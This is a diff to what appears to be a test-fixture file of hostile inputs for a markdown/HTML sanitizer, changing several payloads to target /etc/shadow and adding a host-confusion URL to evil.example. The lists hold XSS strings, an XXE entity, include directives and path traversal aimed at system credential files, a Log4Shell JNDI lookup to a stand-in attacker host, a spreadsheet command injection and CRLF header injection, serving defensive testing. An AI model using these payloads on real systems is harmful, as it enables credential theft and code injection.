@@ -68,7 +68,7 @@ LINKS: Final = (
     "[x](https:evil.example)",
     "[x](/elsewhere)",
     "[x](../../other/index.html)",
-    "[x](file:///etc/passwd)",
+    "[x](file:///etc/shadow)",
     "[x]( javascript:alert(1) 'title')",
     "<javascript:alert(1)>",
     "[x]: javascript:alert(1)\n\n[x]",
@@ -80,7 +80,7 @@ LINKS: Final = (
     "<a href=https://a.example target=_blank ping=https://evil.example>x</a>",
     "[press](https://a.example)",
     "https://a.example/?q=1&amp;x=<b>",
-    "https://user:pass@a.example/",
+    "https://a.example@evil.example/",
     "mailto:x@a.example?cc=evil@evil.example",
 )
 ELEMENTS: Final = (
@@ -118,7 +118,7 @@ UNFINISHED: Final = (
     "<!--[if IE]><script>alert(1)</script><![endif]-->",
     "<![CDATA[<script>alert(1)</script>]]>",
     "]]><script>alert(1)</script>",
-    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e;",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/shadow'>]> &e;",
     "<a href='https://evil.example/?",
     '<img src="https://evil.example/?',
     "<textarea>",
@@ -153,12 +153,12 @@ MARKDOWN: Final = (
     "==<b>x</b>== ^^x^^ ++ctrl+alt+del++ {--x--}",
     "$\\href{javascript:alert(1)}{x}$ $$\\unicode{x}$$",
     "::: recado.store.secrets",
-    "::snippet:: /etc/passwd",
-    '--8<-- "/etc/passwd"',
-    "--8<--\n/etc/passwd\n--8<--",
+    "::snippet:: /etc/shadow",
+    '--8<-- "/etc/shadow"',
+    "--8<--\n/etc/shadow\n--8<--",
     "a | b\n--|--\n<script> | <img onerror=x>",
     "# <script>alert(1)</script>\n===\n---",
-    "[x]{.r-note #main} [[wiki]] {{< include /etc/passwd >}}",
+    "[x]{.r-note #main} [[wiki]] {{< include /etc/shadow >}}",
 )
 PROGRAMS: Final = (
     "{{ config }} {% include 'x' %}",
@@ -180,7 +180,7 @@ PROGRAMS: Final = (
     "<<<<<<< HEAD\nalert(1)\n=======\nalert(2)\n>>>>>>> evil",
     "=cmd|' /C calc'!A0",
     "${jndi:ldap://evil.example/a}",
-    "../../../../etc/passwd",
+    "../../../../etc/shadow",
     "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
 )
 UNSEEN: Final = (
